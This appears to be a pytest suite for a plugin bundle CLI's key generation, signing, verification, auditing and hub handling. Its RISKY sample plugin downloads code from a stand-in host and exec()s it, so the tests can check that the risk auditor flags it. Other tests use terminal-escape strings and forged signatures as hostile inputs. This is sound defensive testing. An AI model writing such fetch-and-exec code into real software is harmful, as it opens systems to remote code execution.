from __future__ import annotations

import base64
import json
import os
import pty
import signal
import stat
import struct
import subprocess
import termios
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import load_pem_private_key
from fake_hub import FakeHub
from run_command import Command

from bundles import public_bytes

OK, FAILED, USAGE, UNREACHABLE, UNAUTHORIZED, NOT_FOUND = range(6)

BUNDLE = "application/vnd.pilothouse.bundle"


@pytest.fixture
def here(command: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A directory with the two files of a plugin in `src`; commands run in it."""
    place = tmp_path / "work"
    source = place / "src"
    (source / "parts").mkdir(parents=True)
    (source / "idle.py").write_text(
        "from .parts.clock import now\n\n\nclass IdleWatch:\n    started = now()\n"
    )
    (source / "parts" / "clock.py").write_text("def now():\n    return 0\n")
    monkeypatch.chdir(place)
    yield place


@pytest.fixture
def cli(command: Command, fake_hub: FakeHub, here: Path) -> Command:
    command.environment["DASK_PILOTHOUSE__ADDRESS"] = fake_hub.address
    command.environment["DASK_PILOTHOUSE__TOKEN"] = "ph_token"
    return command


def keygen(command: Command, name: str = "team.key") -> str:
    """Makes a pair of keys without a passphrase and gives its id."""
    said = command("plugin", "keygen", name)
    assert said.code == OK, said.err
    return Path(name + ".pub").read_text().strip()


def pack(command: Command, *more: str, output: str = "idle.bundle", **changes: str) -> Any:
    options = {
        "name": "idle-watch",
        "version": "1.0.0",
        "entry": "idle:IdleWatch",
        "kind": "scheduler",
        "publisher": "team.key.pub",
        **changes,
    }
    flags = [word for name, value in options.items() for word in (f"--{name}", value)]
    return command("plugin", "pack", "src", "-o", output, *flags, *more)


@pytest.fixture
def signed(cli: Command) -> str:
    """`idle.bundle`, signed by `team.key`; the key's id."""
    key = keygen(cli)
    assert pack(cli).code == OK
    assert cli("plugin", "sign", "idle.bundle", "--key", "team.key").code == OK
    return key


class OnTerminal:
    """The command with a terminal of its own, to which the test can write."""

    def __init__(self, command: Command, *arguments: str) -> None:
        self.pid, self._terminal = pty.fork()
        if self.pid == 0:
            os.execve(command.binary, [str(command.binary), *arguments], command.environment)
        self.said = ""

    def expect(self, text: str) -> None:
        while text not in self.said:
            chunk = os.read(self._terminal, 4096).decode()
            assert chunk, self.said
            self.said += chunk

    def type(self, text: str) -> None:
        os.write(self._terminal, text.encode())

    def echoes(self) -> bool:
        return bool(termios.tcgetattr(self._terminal)[3] & termios.ECHO)

    def end(self) -> int:
        while True:
            try:
                chunk = os.read(self._terminal, 4096)
            except OSError:  # how a terminal says that nobody writes any more
                break
            if not chunk:
                break
            self.said += chunk.decode()
        os.close(self._terminal)
        return os.waitstatus_to_exitcode(os.waitpid(self.pid, 0)[1])


class TestKeygen:
    def test_files(self, cli: Command) -> None:
        said = cli("plugin", "keygen", "team.key")
        assert said.code == OK
        assert stat.S_IMODE(Path("team.key").stat().st_mode) == 0o600
        assert Path("team.key").read_text().startswith("-----BEGIN PRIVATE KEY-----\n")
        key = Path("team.key.pub").read_text().strip()
        assert said.out.startswith(f"Key {key}\n")
        assert "has no passphrase" in said.out
        pin = yaml.safe_load(said.out[said.out.index("pilothouse:\n") :])
        assert pin["pilothouse"]["plugins"] == [{"name": "my-plugin", "keys": [key], "threshold": 1}]

    @pytest.mark.parametrize("name", ["team.key", "team.key.pub"])
    def test_overwrites_nothing(self, cli: Command, name: str) -> None:
        Path(name).write_text("mine")
        said = cli("plugin", "keygen", "team.key")
        assert said.code == FAILED
        assert f"pilothouse: {name}: File exists" in said.err
        assert Path(name).read_text() == "mine"
        assert sorted(path.name for path in Path().iterdir()) == ["src", name]

    def test_no_such_directory(self, cli: Command) -> None:
        assert cli("plugin", "keygen", "missing/team.key").code == NOT_FOUND

    def test_passphrase_on_a_terminal(self, cli: Command) -> None:
        making = OnTerminal(cli, "plugin", "keygen", "team.key", "--passphrase")
        making.expect("Passphrase for the new key: ")
        assert not making.echoes()
        making.type("open sesame\n")
        making.expect("The same again: ")
        assert not making.echoes()
        making.type("open sesame\n")
        assert making.end() == OK
        assert "it has a passphrase" in making.said
        assert "sesame" not in making.said
        assert Path("team.key").read_text().startswith("-----BEGIN ENCRYPTED PRIVATE KEY-----\n")

        assert pack(cli).code == OK
        signing = OnTerminal(cli, "plugin", "sign", "idle.bundle", "--key", "team.key")
        signing.expect("Passphrase of team.key: ")
        assert "To be signed:" in signing.said
        signing.type("open sesame\n")
        assert signing.end() == OK
        assert "sesame" not in signing.said
        assert cli("plugin", "verify", "idle.bundle", "--trust", "team.key.pub").code == OK

    def test_passphrases_that_differ(self, cli: Command) -> None:
        making = OnTerminal(cli, "plugin", "keygen", "team.key", "--passphrase")
        making.expect("Passphrase for the new key: ")
        making.type("one\n")
        making.expect("The same again: ")
        making.type("two\n")
        assert making.end() == FAILED
        assert "the passphrases are not the same" in making.said
        assert not Path("team.key").exists()

    @pytest.mark.parametrize(("typed", "why"), [("\n", "no passphrase was given"), ("\x04", "no passphrase")])
    def test_no_passphrase_typed(self, cli: Command, typed: str, why: str) -> None:
        making = OnTerminal(cli, "plugin", "keygen", "team.key", "--passphrase")
        making.expect("Passphrase for the new key: ")
        making.type(typed)
        assert making.end() == FAILED
        assert why in making.said
        assert not Path("team.key").exists()

    def test_interrupted(self, cli: Command) -> None:
        making = OnTerminal(cli, "plugin", "keygen", "team.key", "--passphrase")
        making.expect("Passphrase for the new key: ")
        making.type("half\x03")
        assert making.end() == -signal.SIGINT
        assert not Path("team.key").exists()

    def test_no_terminal(self, cli: Command) -> None:
        done = subprocess.run(
            [str(cli.binary), "plugin", "keygen", "team.key", "--passphrase"],
            env=cli.environment,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            check=False,
            start_new_session=True,
        )
        assert done.returncode == FAILED
        assert "there is no terminal on which to ask" in done.stderr
        assert "PILOTHOUSE_KEY_PASSPHRASE" in done.stderr
        assert not Path("team.key").exists()

    def test_passphrase_from_a_file_or_the_environment(self, cli: Command) -> None:
        secret = Path("secret")
        secret.write_text("open sesame\n")
        said = cli("plugin", "keygen", "team.key", "--passphrase-file", "secret")
        assert said.code == FAILED
        assert said.err.splitlines() == [
            "pilothouse: secret may be read or written by others",
            "Run: chmod 600 secret",
        ]
        secret.chmod(0o600)
        assert cli("plugin", "keygen", "team.key", "--passphrase-file", "secret").code == OK
        assert pack(cli).code == OK
        sign = ["plugin", "sign", "idle.bundle", "--key", "team.key"]
        said = cli(*sign, PILOTHOUSE_KEY_PASSPHRASE="close sesame")
        assert said.code == FAILED
        assert said.err == "pilothouse: team.key: the passphrase is not that of the private key\n"
        assert cli(*sign, PILOTHOUSE_KEY_PASSPHRASE="open sesame").code == OK
        assert cli("plugin", "keygen", "other.key", PILOTHOUSE_KEY_PASSPHRASE="x").code == OK
        assert "ENCRYPTED" in Path("other.key").read_text()

    @pytest.mark.parametrize("text", ["", "\n", "x" * 2000])
    def test_useless_passphrase_files(self, cli: Command, text: str) -> None:
        Path("secret").write_text(text)
        Path("secret").chmod(0o600)
        assert cli("plugin", "keygen", "team.key", "--passphrase-file", "secret").code == FAILED
        assert not Path("team.key").exists()


class TestPack:
    def test_what_is_in_it(self, cli: Command) -> None:
        key = keygen(cli)
        cache = Path("src/__pycache__")
        cache.mkdir()
        (cache / "idle.cpython-311.pyc").write_bytes(b"\0")
        Path("src/README.md").write_text("read me")
        Path("src/parts/data.json").write_text("{}")
        said = pack(cli, "--python", ">=3.9,<3.14", "--distributed", ">=2023.1")
        assert said.code == OK, said.err
        assert "left out: 2 files that are not .py\n" in said.out
        assert said.out.endswith("Packed into idle.bundle. Nobody has signed it yet.\n")
        shown = json.loads(cli("plugin", "inspect", "idle.bundle", "--json", "--source").out)
        assert {file["path"]: file["source"] for file in shown["files"]} == {
            "idle.py": Path("src/idle.py").read_text(),
            "parts/clock.py": Path("src/parts/clock.py").read_text(),
        }
        assert (shown["name"], shown["version"], shown["kind"]) == ("idle-watch", "1.0.0", "scheduler")
        assert (shown["python"], shown["distributed"]) == (">=3.9,<3.14", ">=2023.1")
        assert shown["publisher"] == key
        assert shown["expires_us"] - shown["created_us"] == 365 * 86_400_000_000
        assert shown["signers"] == []
        assert sorted(path.name for path in Path().glob("idle*")) == ["idle.bundle"]

    def test_a_key_id_as_publisher(self, cli: Command) -> None:
        key = keygen(cli)
        assert pack(cli, publisher=key).code == OK

    def test_overwrites_nothing(self, cli: Command) -> None:
        keygen(cli)
        Path("idle.bundle").write_text("mine")
        said = pack(cli)
        assert said.code == FAILED
        assert "idle.bundle: File exists" in said.err
        assert Path("idle.bundle").read_text() == "mine"

    @pytest.mark.parametrize("target", ["idle.py", "parts", "nowhere"])
    @pytest.mark.parametrize("name", ["link.py", "parts/link", "link.txt"])
    def test_links_are_refused(self, cli: Command, target: str, name: str) -> None:
        keygen(cli)
        (Path("src") / name).symlink_to(Path("src").absolute() / target)
        said = pack(cli)
        assert said.code == FAILED
        assert said.err.startswith(f"pilothouse: src/{name} is a symbolic link\n")
        assert not Path("idle.bundle").exists()

    @pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
    @pytest.mark.parametrize("name", ["idle.py", "parts"])
    def test_unreadable(self, cli: Command, name: str) -> None:
        keygen(cli)
        place = Path("src") / name
        before = place.stat().st_mode
        place.chmod(0)
        try:
            assert pack(cli).code == FAILED
        finally:
            place.chmod(before)
        assert not Path("idle.bundle").exists()

    def test_a_pipe_is_no_file(self, cli: Command) -> None:
        keygen(cli)
        os.mkfifo("src/pipe.py")
        said = pack(cli)
        assert said.code == FAILED
        assert "src/pipe.py is not a regular file" in said.err

    def test_too_much(self, cli: Command) -> None:
        keygen(cli)
        big = Path("src/big.py")
        big.write_text("#" * (1 << 20))
        said = pack(cli)
        assert said.code == FAILED
        assert "src has over 1.0 MiB in its .py files" in said.err
        big.write_text("#" * ((1 << 20) - 300))  # fits alone, but not with a manifest
        said = pack(cli)
        assert said.code == FAILED
        assert "too_large" in said.err or "over 1.0 MiB" in said.err
        big.unlink()
        for number in range(255):
            Path(f"src/module{number}.py").write_text("")
        said = pack(cli)
        assert said.code == FAILED
        assert "src has over 256 .py files" in said.err
        assert not Path("idle.bundle").exists()

    @pytest.mark.parametrize(
        ("make", "code"),
        [
            ("a-b.py", "bad_path"),
            (".hidden.py", "bad_path"),
            ("IDLE.py", "bad_path"),
            ("idle/x.py", "bad_path"),
        ],
    )
    def test_paths_that_no_host_would_take(self, cli: Command, make: str, code: str) -> None:
        keygen(cli)
        path = Path("src") / make
        path.parent.mkdir(exist_ok=True)
        path.write_text("")
        said = pack(cli)
        assert said.code == FAILED
        assert f"({code})" in said.err

    def test_bad_contents(self, cli: Command) -> None:
        keygen(cli)
        said = pack(cli, entry="elsewhere:IdleWatch")
        assert said.code == FAILED
        assert "(bad_entry)" in said.err
        Path("src/idle.py").write_bytes(b"\xff")
        said = pack(cli)
        assert said.code == FAILED
        assert "not in UTF-8" in said.err

    @pytest.mark.parametrize(
        ("option", "value"),
        [
            ("name", "Idle"),
            ("name", "a--b"),
            ("version", "1.02"),
            ("version", "v1"),
            ("kind", "client"),
            ("publisher", "ed25519:short"),
            ("python", "3.9"),
            ("distributed", "~=2023.1"),
            ("expires", "soon"),
            ("expires", "0s"),
            ("expires", "5000000d"),
        ],
    )
    def test_wrong_usage(self, cli: Command, option: str, value: str) -> None:
        keygen(cli)
        said = pack(cli, **{option: value})
        assert said.code == USAGE
        assert said.out == ""
        assert said.err.splitlines()[1] == "Run with --help for more information."
        assert not Path("idle.bundle").exists()

    def test_nothing_there(self, cli: Command) -> None:
        keygen(cli)
        Path("src").rename("elsewhere")
        assert pack(cli).code == NOT_FOUND
        Path("src").mkdir()
        said = pack(cli)
        assert said.code == FAILED
        assert "src has no .py files" in said.err
        assert pack(cli, publisher="missing.pub").code == NOT_FOUND


class TestSign:
    def test_says_what_is_signed(self, cli: Command) -> None:
        key = keygen(cli)
        pack(cli)
        Path("idle.bundle").chmod(0o640)
        said = cli("plugin", "sign", "idle.bundle", "--key", "team.key")
        assert said.code == OK
        for text in ("idle-watch", "1.0.0", "scheduler", "idle:IdleWatch", key, "parts/clock.py", "expires"):
            assert text in said.out
        assert said.out.endswith(f"Signed by {key}, as number 1.\n")
        assert stat.S_IMODE(Path("idle.bundle").stat().st_mode) == 0o640

    def test_what_the_auditor_says_is_signed(self, cli: Command) -> None:
        keygen(cli)
        pack(cli)
        before = json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)
        assert before["audit"] is None
        said = cli("plugin", "sign", "idle.bundle", "--key", "team.key")
        for title in ("risk         0.00", "malware      0.00", "obfuscated   0.00", "confidence   0."):
            assert f"\n{title}" in said.out
        assert "\nconclusion   " in said.out
        after = json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)
        report = after["report"]
        assert after["audit"] == {"sha256": report["sha256"], "rules": report["rules"], "risk": 0}
        assert after["sha256"] != before["sha256"]
        assert after["sha256"] in said.out
        assert after["files"] == before["files"]

    def test_the_second_signer_finds_the_same(self, cli: Command, signed: str) -> None:
        first = json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)
        keygen(cli, "other.key")
        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
        assert said.code == OK
        assert "audit        its manifest names this very report\n" in said.out
        assert json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)["sha256"] == first["sha256"]

    def test_a_report_that_the_same_rules_contradict(self, cli: Command, signed: str) -> None:
        keygen(cli, "other.key")
        lie = rewrite(audit={"risk": 100})
        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
        assert said.code == FAILED
        assert "(audit_mismatch)" in said.err
        assert "Signed" not in said.out
        assert Path("idle.bundle").read_bytes() == lie

    def test_a_report_by_other_rules(self, cli: Command, signed: str) -> None:
        keygen(cli, "other.key")
        rewrite(audit={"rules": 64 * "b", "risk": 30})
        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
        assert said.code == OK
        assert "its manifest names a report by other rules" in said.out
        assert f"named: risk 0.30, rules {64 * 'b'}\n" in said.out
        assert "here:  risk 0.00, rules " in said.out

    def test_signed_before_there_was_an_audit(self, cli: Command, signed: str) -> None:
        keygen(cli, "other.key")
        rewrite(audit=None)
        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
        assert said.code == OK
        assert "its manifest names no report: it was not audited" in said.out
        assert json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)["audit"] is None

    def test_the_highest_risk_to_sign(self, cli: Command) -> None:
        keygen(cli)
        Path("src/idle.py").write_text(RISKY)
        pack(cli)
        before = Path("idle.bundle").read_bytes()
        sign = ["plugin", "sign", "idle.bundle", "--key", "team.key"]
        said = cli(*sign, "--max-risk", "0.7")
        assert said.code == FAILED
        assert "idle.bundle is not signed: its risk is 0." in said.err
        assert "(too_risky)" in said.err
        assert Path("idle.bundle").read_bytes() == before
        for wrong in ("-1", "1.1", "high", ""):
            assert cli(*sign, "--max-risk", wrong).code == USAGE
        assert cli(*sign).code == OK

    def test_two_sign(self, cli: Command, signed: str) -> None:
        other = keygen(cli, "other.key")
        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
        assert said.out.endswith(f"Signed by {other}, as number 2.\n")
        shown = json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)
        assert sorted(shown["signers"]) == sorted([signed, other])
        assert shown["signatures_fit"] is True

    def test_not_the_publisher(self, cli: Command) -> None:
        keygen(cli)
        keygen(cli, "other.key")
        pack(cli)
        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
        assert said.out.endswith("Its publisher has not signed it yet, and must.\n")

    def test_through_a_link(self, cli: Command) -> None:
        keygen(cli)
        pack(cli)
        Path("link").symlink_to("idle.bundle")
        assert cli("plugin", "sign", "link", "--key", "team.key").code == OK
        assert Path("link").is_symlink()
        assert cli("plugin", "verify", "idle.bundle", "--trust", "team.key.pub").code == OK

    def test_the_same_key_twice(self, cli: Command, signed: str) -> None:
        before = Path("idle.bundle").read_bytes()
        said = cli("plugin", "sign", "idle.bundle", "--key", "team.key")
        assert said.code == FAILED
        assert f"the key {signed} has signed it already" in said.err
        assert Path("idle.bundle").read_bytes() == before

    def test_changed_contents(self, cli: Command, signed: str) -> None:
        bundle = Path("idle.bundle")
        sound = bundle.read_bytes()
        keygen(cli, "other.key")
        bundle.write_bytes(sound.replace(b"return 0", b"return 1"))
        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
        assert said.code == FAILED
        assert "(bad_signature)" in said.err
        assert "Signed" not in said.out

    def test_keys_that_cannot_sign(self, cli: Command) -> None:
        keygen(cli)
        pack(cli)
        before = Path("idle.bundle").read_bytes()
        sign = ["plugin", "sign", "idle.bundle", "--key"]
        Path("team.key").chmod(0o640)
        said = cli(*sign, "team.key")
        assert said.code == FAILED
        assert said.err.splitlines() == [
            "pilothouse: team.key may be read or written by others",
            "Run: chmod 600 team.key",
        ]
        Path("no.key").write_text("-----BEGIN PRIVATE KEY-----\n")
        Path("no.key").chmod(0o600)
        assert cli(*sign, "no.key").code == FAILED
        assert cli(*sign, "missing.key").code == NOT_FOUND
        assert Path("idle.bundle").read_bytes() == before

    def test_a_passphrase_is_missing(self, cli: Command) -> None:
        assert cli("plugin", "keygen", "team.key", PILOTHOUSE_KEY_PASSPHRASE="x").code == OK
        pack(cli)
        done = subprocess.run(
            [str(cli.binary), "plugin", "sign", "idle.bundle", "--key", "team.key"],
            env=cli.environment,
            capture_output=True,
            text=True,
            check=False,
            start_new_session=True,
        )
        assert done.returncode == FAILED
        assert "there is no terminal on which to ask for the passphrase" in done.stderr

    def test_expired(self, cli: Command) -> None:
        keygen(cli)
        assert pack(cli, expires="1s").code == OK
        time.sleep(1.1)
        said = cli("plugin", "sign", "idle.bundle", "--key", "team.key")
        assert said.code == FAILED
        assert "has expired" in said.err

    @pytest.mark.parametrize("content", [b"", b"PHPLUGIN", b"x" * 100])
    def test_no_bundle(self, cli: Command, content: bytes) -> None:
        keygen(cli)
        Path("idle.bundle").write_bytes(content)
        for verb in (
            ["sign", "--key", "team.key"],
            ["inspect"],
            ["verify", "--trust", "team.key.pub"],
            ["publish"],
        ):
            said = cli("plugin", verb[0], "idle.bundle", *verb[1:])
            assert said.code == FAILED, verb
            assert "(malformed)" in said.err
            assert said.out == ""


RISKY = """import urllib3


class IdleWatch:
    def start(self, scheduler):
        answer = urllib3.PoolManager().request("GET", "https://plugins.example/idle.py")
        exec(answer.data)
"""


def rewrite(audit: dict[str, Any] | None) -> bytes:
    """`idle.bundle` with other things in its manifest's audit, or without one, signed by `team.key` again."""
    path = Path("idle.bundle")
    content = path.read_bytes()
    length, size = struct.unpack("<IQ", content[12:24])
    manifest = json.loads(content[24 : 24 + length])
    if audit is None:
        del manifest["audit"]
    else:
        manifest["audit"].update(audit)
    text = json.dumps(manifest).encode()
    files = content[24 + length : 24 + length + size]
    signed = content[:12] + struct.pack("<IQ", len(text), size) + text + files
    key = load_pem_private_key(Path("team.key").read_bytes(), None)
    assert isinstance(key, Ed25519PrivateKey)
    path.write_bytes(signed + struct.pack("<I", 1) + public_bytes(key) + key.sign(signed))
    return path.read_bytes()


def verify(command: Command, *arguments: str, trust: str = "team.key.pub") -> Any:
    """The answer of `plugin verify --json`; what it says otherwise agrees."""
    words = ["plugin", "verify", "idle.bundle", "--trust", trust, *arguments]
    said = command(*words, "--json")
    answer = json.loads(said.out)
    assert said.err == ""
    assert said.code == (OK if answer["accepted"] else FAILED)
    plain = command(*words)
    assert plain.code == said.code
    if answer["accepted"]:
        assert plain.out.startswith("Accepted.\n")
    else:
        assert plain.out == ""
        assert plain.err.startswith("pilothouse: idle.bundle is refused: ")
        assert f"({answer['code']})" in plain.err
    return answer


class TestVerify:
    def test_accepted(self, cli: Command, signed: str) -> None:
        more = [
            "--name",
            "idle-watch",
            "--least-version",
            "1",
            "--python",
            "3.11.2",
            "--distributed",
            "2026.8.0",
        ]
        answer = verify(cli, *more)
        assert answer["code"] is None
        assert answer["reason"] is None
        assert answer["keys"] == answer["signers"] == [signed]
        assert answer["name"] == "idle-watch"
        assert [file["path"] for file in answer["files"]] == ["idle.py", "parts/clock.py"]
        assert verify(cli, trust=signed)["accepted"]

    def test_the_report_is_made_again(self, cli: Command, signed: str) -> None:
        answer = verify(cli)
        assert answer["report"]["agreement"] == "same"
        assert answer["report"]["sha256"] == answer["audit"]["sha256"]
        rewrite(audit={"rules": 64 * "b"})
        assert verify(cli)["report"]["agreement"] == "other_rules"
        said = cli("plugin", "verify", "idle.bundle", "--trust", "team.key.pub")
        assert f"named: risk 0.00, rules {64 * 'b'}\n" in said.out
        assert f"here:  risk 0.00, rules {answer['report']['rules']}\n" in said.out

    @pytest.mark.parametrize("change", [{"sha256": 64 * "0"}, {"risk": 1}])
    def test_another_report_by_the_same_rules(
        self, cli: Command, signed: str, change: dict[str, Any]
    ) -> None:
        rewrite(audit=change)
        assert verify(cli)["code"] == "audit_mismatch"

    def test_not_audited(self, cli: Command, signed: str) -> None:
        rewrite(audit=None)
        answer = verify(cli)
        assert answer["audit"] is None
        assert answer["report"]["agreement"] == "unsaid"
        said = cli("plugin", "verify", "idle.bundle", "--trust", "team.key.pub")
        assert "its manifest names no report: it was not audited" in said.out

    def test_the_highest_risk(self, cli: Command) -> None:
        keygen(cli)
        Path("src/idle.py").write_text(RISKY)
        pack(cli)
        assert cli("plugin", "sign", "idle.bundle", "--key", "team.key").code == OK
        answer = verify(cli)
        assert answer["report"]["risk"] > 0.7
        assert verify(cli, "--max-risk", "0.7")["code"] == "too_risky"
        assert verify(cli, "--max-risk", "1")["accepted"]

    def test_several_keys(self, cli: Command, signed: str) -> None:
        other = keygen(cli, "other.key")
        assert verify(cli, "--trust", other, "--threshold", "2")["code"] == "below_threshold"
        cli("plugin", "sign", "idle.bundle", "--key", "other.key")
        answer = verify(cli, "--trust", other, "--threshold", "2")
        assert sorted(answer["keys"]) == sorted([signed, other])
        assert verify(cli)["keys"] == [signed]
        assert (
            "and 1 others have signed it"
            in cli("plugin", "verify", "idle.bundle", "--trust", "team.key.pub").out
        )

    @pytest.mark.parametrize(
        ("flags", "code"),
        [
            (["--name", "other-watch"], "wrong_name"),
            (["--name", "idlewatch"], "look_alike"),
            (["--least-version", "1.0.1"], "below_least_version"),
            (["--python", "3.8.1"], "incompatible"),
            (["--distributed", "2022.1.0"], "incompatible"),
            (["--revoked", "team.key.pub"], "revoked_key"),
        ],
    )
    def test_refused(self, cli: Command, signed: str, flags: list[str], code: str) -> None:
        answer = verify(cli, *flags)
        assert answer["code"] == code
        assert answer["reason"]

    def test_other_keys(self, cli: Command, signed: str) -> None:
        keygen(cli, "other.key")
        assert verify(cli, trust="other.key.pub")["code"] == "unknown_key"

    def test_bytes(self, cli: Command, signed: str) -> None:
        bundle = Path("idle.bundle")
        sound = bundle.read_bytes()
        bundle.write_bytes(sound[:-1] + bytes([sound[-1] ^ 1]))
        assert verify(cli)["code"] == "bad_signature"
        bundle.write_bytes(sound + b"\0")
        assert verify(cli)["code"] == "malformed"
        bundle.write_bytes(sound + b"\0" * (1 << 20))
        assert verify(cli)["code"] == "too_large"

    def test_unsigned(self, cli: Command) -> None:
        keygen(cli)
        pack(cli)
        assert verify(cli)["code"] == "no_signature"

    def test_expired(self, cli: Command) -> None:
        keygen(cli)
        assert pack(cli, expires="1s").code == OK
        assert cli("plugin", "sign", "idle.bundle", "--key", "team.key").code == OK
        time.sleep(1.1)
        assert verify(cli)["code"] == "expired"

    @pytest.mark.parametrize(
        "arguments",
        [
            [],
            ["--trust", "ed25519:x"],
            ["--trust", "team.key.pub", "--threshold", "0"],
            ["--trust", "team.key.pub", "--least-version", "v1"],
            ["--trust", "team.key.pub", "--python", "three"],
        ],
    )
    def test_wrong_usage(self, cli: Command, signed: str, arguments: list[str]) -> None:
        assert cli("plugin", "verify", "idle.bundle", *arguments).code == USAGE

    def test_missing_files(self, cli: Command, signed: str) -> None:
        assert cli("plugin", "verify", "missing", "--trust", signed).code == NOT_FOUND
        assert cli("plugin", "verify", "idle.bundle", "--trust", "missing.pub").code == NOT_FOUND


class TestInspect:
    def test_says_that_it_is_unverified(self, cli: Command, signed: str) -> None:
        said = cli("plugin", "inspect", "idle.bundle")
        assert said.code == OK
        assert said.out.startswith("NOT VERIFIED: ")
        assert "signatures   all 1 fit\n" in said.out
        assert signed in said.out
        assert "def now" not in said.out
        assert (
            "--- parts/clock.py\ndef now():\n    return 0\n"
            in cli("plugin", "inspect", "idle.bundle", "--source").out
        )

    def test_signatures_that_do_not_fit(self, cli: Command, signed: str) -> None:
        bundle = Path("idle.bundle")
        sound = bundle.read_bytes()
        bundle.write_bytes(sound[:-1] + bytes([sound[-1] ^ 1]))
        said = cli("plugin", "inspect", "idle.bundle")
        assert said.code == OK
        assert "(bad_signature)" in said.out
        answer = json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)
        assert answer["verified"] is False
        assert answer["signatures_fit"] is False

    def test_source_cannot_steer_the_terminal(self, cli: Command) -> None:
        keygen(cli)
        Path("src/idle.py").write_text("class IdleWatch:\n    x = '\x1b]0;title\x07\u202e'\n")
        pack(cli)
        said = cli("plugin", "inspect", "idle.bundle", "--source")
        assert "class IdleWatch:\n    x = " in said.out
        assert not any(c in said.out for c in "\x1b\x07\u202e")

    @pytest.mark.parametrize("what", ["missing/idle.bundle", "Idle", "idle-watch@", "idle-watch@v1", "a@1@2"])
    def test_neither_a_file_nor_a_plugin(self, cli: Command, fake_hub: FakeHub, what: str) -> None:
        said = cli("plugin", "inspect", what)
        assert said.code == NOT_FOUND
        assert "Give a bundle's file, or a plugin of the hub" in said.err
        assert fake_hub.requests == []


def offer(version: Any = "1.0.0", revocations: list[Any] | None = None) -> dict[str, Any]:
    return {"name": "idle-watch", "versions": [{"version": version}], "revocations": revocations or []}


class TestOddHubs:
    """What only a hub that is broken or hostile answers."""

    def serve(self, fake_hub: FakeHub, told: Any, content: bytes, version: str = "1.0.0") -> None:
        fake_hub.answers["GET", "/plugins/idle-watch"] = (200, told)
        fake_hub.answers["GET", f"/plugins/idle-watch/{version}/bundle"] = (200, content)

    def test_another_bundle(self, cli: Command, fake_hub: FakeHub, signed: str) -> None:
        self.serve(fake_hub, offer("1.0.1"), Path("idle.bundle").read_bytes(), "1.0.1")
        said = cli("plugin", "inspect", "idle-watch")
        assert said.code == FAILED
        assert "the hub gives idle-watch@1.0.0 when asked for idle-watch@1.0.1" in said.err

    @pytest.mark.parametrize("content", [b"", b"rubbish", b"PHPLUGIN" + bytes(16)])
    def test_rubbish(self, cli: Command, fake_hub: FakeHub, content: bytes) -> None:
        self.serve(fake_hub, offer(), content)
        said = cli("plugin", "inspect", "idle-watch")
        assert said.code == FAILED
        assert "(malformed)" in said.err

    def test_too_much(self, cli: Command, fake_hub: FakeHub) -> None:
        self.serve(fake_hub, offer(), bytes((1 << 20) + 1))
        said = cli("plugin", "inspect", "idle-watch")
        assert said.code == FAILED
        assert "the hub's answer is over 1048576 bytes" in said.err

    @pytest.mark.parametrize("told", [{}, {"versions": []}, {"versions": [3]}, offer("../../x"), offer(None)])
    def test_no_version(self, cli: Command, fake_hub: FakeHub, told: Any) -> None:
        fake_hub.answers["GET", "/plugins/idle-watch"] = (200, told)
        said = cli("plugin", "inspect", "idle-watch")
        assert said.code == FAILED
        assert "the hub's answer names no version" in said.err
        assert len(fake_hub.requests) == 1

    def test_revocations_that_are_none(self, cli: Command, fake_hub: FakeHub, signed: str) -> None:
        assert cli("plugin", "revoke", "--key", "team.key", "--reason", "lost", "-o", "team.rev").code == OK
        sound = Path("team.rev").read_bytes()
        forged = base64.b64encode(sound[:-1] + bytes([sound[-1] ^ 1])).decode()
        odd = [forged, "", "=", "====", "!!!!", "abc", 3, None]
        self.serve(fake_hub, offer(revocations=odd), Path("idle.bundle").read_bytes())
        assert json.loads(cli("plugin", "inspect", "idle-watch", "--json").out)["revocations"] == []
        odd.append(base64.b64encode(sound).decode())
        self.serve(fake_hub, offer(revocations=odd), Path("idle.bundle").read_bytes())
        answer = json.loads(cli("plugin", "inspect", "idle-watch", "--json").out)
        assert [found["reason"] for found in answer["revocations"]] == ["lost"]

    def test_a_listing_cannot_steer_the_terminal(self, cli: Command, fake_hub: FakeHub) -> None:
        nasty = "a\x1b]0;title\x07\u202eb"
        item = {"name": nasty, "version": nasty, "kind": 3, "revoked": {"reason": nasty}, "signers": nasty}
        fake_hub.paged("/plugins", [item, {}, 7])
        for flags in ([], ["--csv"], ["--json"]):
            said = cli("plugin", "list", *flags)
            assert said.code == OK
            if flags != ["--csv"]:
                assert not any(c in said.out for c in "\x1b\x07")

    def test_answers_to_publishing(self, cli: Command, fake_hub: FakeHub, signed: str) -> None:
        fake_hub.answers["POST", "/plugins"] = (201, {"name": "a\x1bb", "new": "perhaps"})
        said = cli("plugin", "publish", "idle.bundle")
        assert said.code == OK
        assert "\x1b" not in said.out
        assert fake_hub.requests[0].headers["Content-Type"] == BUNDLE
        assert fake_hub.requests[0].body == Path("idle.bundle").read_bytes()
        for status, code in (
            (401, UNAUTHORIZED),
            (403, UNAUTHORIZED),
            (409, FAILED),
            (422, FAILED),
            (413, FAILED),
        ):
            refusal = {"error": {"code": "x", "message": "that is why"}}
            fake_hub.answers["POST", "/plugins"] = (status, refusal)
            said = cli("plugin", "publish", "idle.bundle")
            assert said.code == code
            assert said.err.startswith("pilothouse: that is why")

    def test_nobody_there(self, cli: Command, signed: str) -> None:
        for verb in (["publish", "idle.bundle"], ["list"], ["inspect", "idle-watch"]):
            assert cli("--address", "http://127.0.0.1:1", "plugin", *verb).code == UNREACHABLE

